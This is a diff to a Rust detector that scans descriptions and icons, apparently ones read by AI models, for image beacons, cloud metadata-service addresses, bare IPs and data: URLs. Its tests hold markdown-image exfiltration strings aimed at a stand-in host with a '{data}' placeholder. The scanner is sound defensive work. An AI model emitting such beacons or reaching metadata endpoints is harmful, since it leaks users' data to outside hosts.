@@ -1,5 +1,6 @@
 //! Addresses in texts: images that report back, scripts in icons, metadata services, bare numbers instead of names.
 
+use super::cut::floor;
 use super::decode::{base64, percent};
 use super::finding::Found;
 use super::surface::Surface;
@@ -23,6 +24,9 @@ const METADATA: &[&str] = &[
     "metadata.azure.com",
     "metadata.goog",
 ];
+
+/// Addresses that are reserved for examples (RFC 5737).
+const DOCUMENTATION: &[&str] = &["192.0.2.", "198.51.100.", "203.0.113."];
 
 /// Looks for addresses.
 pub(super) fn detect(text: &Text<'_>, _: &Context, found: &mut Found) {
@@ -61,19 +65,23 @@ fn images(text: &str, found: &mut Found) {
         if at < skip {
             continue;
         }
-        let window =
-            |bytes: usize| text.get(at..text.floor_char_boundary((at + bytes).min(text.len()))).unwrap_or_default();
+        let window = |bytes: usize| text.get(at..floor(text, (at + bytes).min(text.len()))).unwrap_or_default();
         let Some(middle) = window(LONGEST_TITLE).find("](") else { continue };
         let rest = window(LONGEST);
         let url = rest.get(middle + 2..).unwrap_or_default();
-        let url = url.get(..url.find([')', '\n']).unwrap_or(url.len())).unwrap_or_default();
-        let address = url.split_whitespace().next().unwrap_or_default();
-        let remote = address.starts_with("http://") || address.starts_with("https://") || address.starts_with("//");
+        let remote = ["http://", "https://", "//"].iter().any(|scheme| url.trim_start().starts_with(scheme));
         if !remote || rest.get(..middle).is_some_and(|title| title.contains('\n')) {
             continue;
         }
+        let close = url.find([')', '\n']);
+        let url = url.get(..close.unwrap_or(url.len())).unwrap_or_default();
+        let address = url.split_whitespace().next().unwrap_or_default();
         let end = at + middle + 2 + url.len();
         skip = end;
+        if close.is_none() && rest.len() + 4 > LONGEST {
+            found.add("image-beacon", Severity::Medium, at..end, "an image with an endless address");
+            continue;
+        }
         let query = address.split_once('?').map_or("", |(_, query)| query);
         // A value that is still to be filled in is what the model is meant to do.
         let open = query.contains(['{', '<', '[', '$'])
@@ -98,8 +106,6 @@ fn images(text: &str, found: &mut Found) {
 /// What stands behind `://`.
 fn hosts(text: &str, found: &mut Found) {
     for colon in memmem::find_iter(text.as_bytes(), b"://") {
-        let scheme = text.get(..colon).unwrap_or_default();
-        let letters = scheme.bytes().rev().take(16).take_while(u8::is_ascii_alphanumeric).count();
         let rest = text.get(colon + 3..).unwrap_or_default();
         let is_end = |byte: u8| {
             byte <= b' ' || matches!(byte, b'/' | b'"' | b'\'' | b'`' | b'<' | b'>' | b'?' | b'#' | b')' | b'|' | b'\\')
@@ -107,11 +113,19 @@ fn hosts(text: &str, found: &mut Found) {
         let length = rest.bytes().take(300).position(is_end).unwrap_or(rest.len().min(300));
         let Some(authority) = rest.get(..length) else { continue };
         let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
+        // Neither a number nor the first letter of a metadata service's name.
+        if !host.starts_with(|c: char| c.is_ascii_digit() || matches!(c, '[' | 'm' | 'M' | 'f' | 'F')) {
+            continue;
+        }
+        let scheme = text.get(..colon).unwrap_or_default();
+        let letters = scheme.bytes().rev().take(16).take_while(u8::is_ascii_alphanumeric).count();
         let span = colon - letters..colon + 3 + length;
         if METADATA.iter().any(|known| is_host(host, known)) {
             found.add("metadata-address", Severity::High, span, "the address of a cloud's metadata service");
         } else if let Some(what) = bare_address(host) {
-            found.add("bare-address", Severity::Medium, span, what);
+            let severity =
+                if DOCUMENTATION.iter().any(|net| host.starts_with(net)) { Severity::Low } else { Severity::Medium };
+            found.add("bare-address", severity, span, what);
         }
     }
 }
@@ -160,7 +174,7 @@ fn data(text: &str, found: &mut Found) {
             continue;
         }
         let rest = text.get(at..).unwrap_or_default();
-        let head = rest.get(..rest.floor_char_boundary(120)).unwrap_or_default();
+        let head = rest.get(..floor(rest, 120)).unwrap_or_default();
         let Some((kind, _)) = head.split_once(',') else { continue };
         let kind = kind.to_ascii_lowercase();
         let page = kind.starts_with("data:text/html")
@@ -228,7 +242,7 @@ fn is_handler(low: &[u8], at: usize) -> bool {
 /// An icon that is neither a picture within the message nor on the web by TLS.
 fn icon(text: &Text<'_>, found: &mut Found) {
     let source = text.text;
-    let span: Range<usize> = 0..text.text.floor_char_boundary(source.len().min(80));
+    let span: Range<usize> = 0..floor(text.text, source.len().min(80));
     if !text.at.ends_with("/src") || span.is_empty() {
         return;
     }
@@ -258,6 +272,8 @@ mod tests {
         let of = |text: &str| found(Surface::Description, text);
         assert_eq!(of("![x](https://a.example/p.png?d={data})"), [("image-beacon", Severity::High)]);
         assert_eq!(of("![x](https://a.example/p.png?v=2)"), [("image-beacon", Severity::Medium)]);
+        let padded = format!("![x](https://a.example/{}?d={{data}})", "p".repeat(5000));
+        assert_eq!(of(&padded), [("image-beacon", Severity::Medium)]);
         assert_eq!(of("![x](https://a.example/p.png) ![y](/local?z=) arr![0](1)"), []);
     }
 
@@ -282,6 +298,11 @@ mod tests {
         ] {
             assert_eq!(of(fine), None, "{fine}");
         }
+    }
+
+    #[test]
+    fn metadata_names_begin_as_the_short_cut_expects() {
+        assert!(METADATA.iter().all(|name| name.starts_with(|c: char| c.is_ascii_digit() || c == 'm' || c == 'f')));
     }
 
     #[test]
